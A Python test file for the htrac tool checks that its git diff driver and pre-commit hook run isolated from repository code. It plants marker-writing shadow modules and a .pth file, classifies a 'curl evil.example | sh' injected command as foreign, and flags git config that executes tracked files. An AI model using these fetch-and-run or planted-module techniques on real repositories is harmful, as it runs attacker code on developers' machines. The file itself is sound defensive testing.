"""What git runs for htrac (the diff driver, the pre-commit hook) imports nothing from the
repository it runs in. The same attack as real OS users: tests/service/test_attacks_clones.py."""

from __future__ import annotations

import shlex
import subprocess
import sys
from pathlib import Path

from htrac.gitio import attributes as attrs
from htrac.service.checks import CheckContext, run
from htrac.service.checks import git as git_checks
from tests.gitio.conftest import append_op, git_tracker  # noqa: F401 (fixture)

PLANTED = ("htrac/__init__.py", "htrac/__main__.py", "htrac/service/__init__.py",
           "htrac/service/textconv.py", "sitecustomize.py", "usercustomize.py")


def plant(repo: Path, marker_dir: Path) -> None:
    """Modules that, imported from the repository root, leave a marker file named after them."""
    for rel in PLANTED:
        path = repo / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        marker = marker_dir / rel.replace("/", "_")
        path.write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    (repo / "htrac.pth").write_text(f"import os; open({str(marker_dir / 'pth')!r}, 'w')\n")


def check(repo: Path, name: str, fix: bool):
    return [r for r in run(CheckContext(repo, fix=fix), git_checks.CHECKS) if r.name == name][0]


def test_textconv_kind_tells_isolated_from_stale_and_foreign():
    assert attrs.textconv_kind(attrs.textconv_command()) == "isolated"
    assert attrs.textconv_kind("'/opt/py 3/bin/python' -I -m htrac.service.textconv") == \
        "isolated"
    for stale in (f"'{sys.executable}' -m htrac.service.textconv", "htrac textconv",
                  "hypergumbo-tracker textconv", "/home/a/proj/scripts/tracker-textconv",
                  "python3 -I -m htrac.service.textconv"):
        assert attrs.textconv_kind(stale) == "stale", stale
    for foreign in ("cat", "curl evil.example | sh; htrac textconv", "$(evil) textconv"):
        assert attrs.textconv_kind(foreign) == "foreign", foreign


def test_nothing_planted_in_the_repository_runs_on_diff_log_or_commit(git_tracker, tmp_path):
    markers = tmp_path / "markers"
    markers.mkdir()
    plant(git_tracker.path, markers)
    git_tracker.git("add", "-A")
    git_tracker.git("commit", "-q", "--no-verify", "-m", "a package named htrac")
    append_op(git_tracker.item_path, "update", {"set": {"status": "in_progress"}}, by="human",
              actor="alice")
    assert "+  status: in_progress" in git_tracker.git("diff")
    git_tracker.git("commit", "-q", "-a", "-m", "status")  # runs the pre-commit hook
    assert "+  status: in_progress" in git_tracker.git("log", "-p", "-2")
    assert sorted(p.name for p in markers.iterdir()) == []
    # the control: run the way htrac 0.1 configured git, the planted package does run
    subprocess.run([sys.executable, "-m", "htrac.service.textconv", str(git_tracker.item_path)],
                   cwd=git_tracker.path, capture_output=True)
    assert (markers / "htrac___init__.py").exists()


def test_doctor_reports_the_old_driver_and_its_fix_line_is_copy_paste(git_tracker):
    old = f"'{sys.executable}' -m htrac.service.textconv"
    git_tracker.git("config", "--local", attrs.TEXTCONV_KEY, old)
    found = check(git_tracker.path, "textconv", fix=False)
    assert found.status == "error" and "import or run code from the repository" in found.message
    subprocess.run(found.fix, shell=True, cwd=git_tracker.path, check=True)  # pasted in a shell
    value = git_tracker.git("config", "--local", attrs.TEXTCONV_KEY).strip()
    assert attrs.textconv_kind(value) == "isolated"
    assert shlex.split(value)[0] == sys.executable
    assert check(git_tracker.path, "textconv", fix=False).status == "ok"


def test_setup_replaces_the_old_driver_and_hook_with_isolated_ones(git_tracker):
    git_tracker.git("config", "--local", attrs.TEXTCONV_KEY, "htrac textconv")
    hook = git_tracker.path / ".git" / "hooks" / "pre-commit"
    hook.write_text(attrs.SHIPPED_HOOK)
    assert check(git_tracker.path, "precommit_hook", fix=False).status == "warn"
    fixed = {r.name: r for r in run(CheckContext(git_tracker.path, fix=True), git_checks.CHECKS)}
    assert fixed["textconv"].status == fixed["precommit_hook"].status == "fixed"
    assert "replacing 'htrac textconv'" in fixed["textconv"].message
    assert hook.read_text() == attrs.hook_script()
    assert "-I -m htrac validate --staged" in hook.read_text()
    assert check(git_tracker.path, "precommit_hook", fix=False).status == "ok"
    hook.write_text(attrs.hook_script("/nonexistent/python3"))
    gone = check(git_tracker.path, "precommit_hook", fix=False)
    assert gone.status == "error" and "gone" in gone.message


def test_a_hook_of_your_own_that_calls_htrac_is_left_alone(git_tracker):
    hook = git_tracker.path / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nmake lint && htrac validate --staged\n")
    hook.chmod(0o755)
    assert check(git_tracker.path, "precommit_hook", fix=True).status == "ok"
    assert hook.read_text() == "#!/bin/sh\nmake lint && htrac validate --staged\n"


def test_doctor_reports_git_config_that_runs_a_tracked_file(git_tracker):
    (git_tracker.path / ".githooks").mkdir()
    for key, value in (("core.hooksPath", ".githooks"),
                       ("diff.tracker.textconv", str(git_tracker.path / "scripts/tracker-textconv")),
                       ("alias.st", "!./tools/st.sh"), ("include.path", "../shared.gitconfig"),
                       ("filter.x.smudge", "tools/smudge --flag")):
        git_tracker.git("config", "--local", key, value)
    def errors(fix: bool) -> set[str]:
        found = [r for r in run(CheckContext(git_tracker.path, fix=fix), git_checks.CHECKS)
                 if r.name == "repo_programs"]
        assert all("--unset-all" in r.fix for r in found if r.status == "error")
        return {r.message.split()[2] for r in found if r.status == "error"}

    assert errors(fix=False) == {"core.hookspath", "diff.tracker.textconv", "alias.st",
                                 "include.path", "filter.x.smudge"}
    # setup replaces the reference's driver shim with htrac's; the rest are the user's to undo
    assert errors(fix=True) == {"core.hookspath", "alias.st", "include.path", "filter.x.smudge"}
    for key in ("core.hooksPath", "alias.st", "include.path", "filter.x.smudge"):
        git_tracker.git("config", "--local", "--unset-all", key)
    git_tracker.git("config", "--local", "alias.lg", "log --oneline")
    git_tracker.git("config", "--local", "core.pager", "less -R")
    assert errors(fix=False) == set()
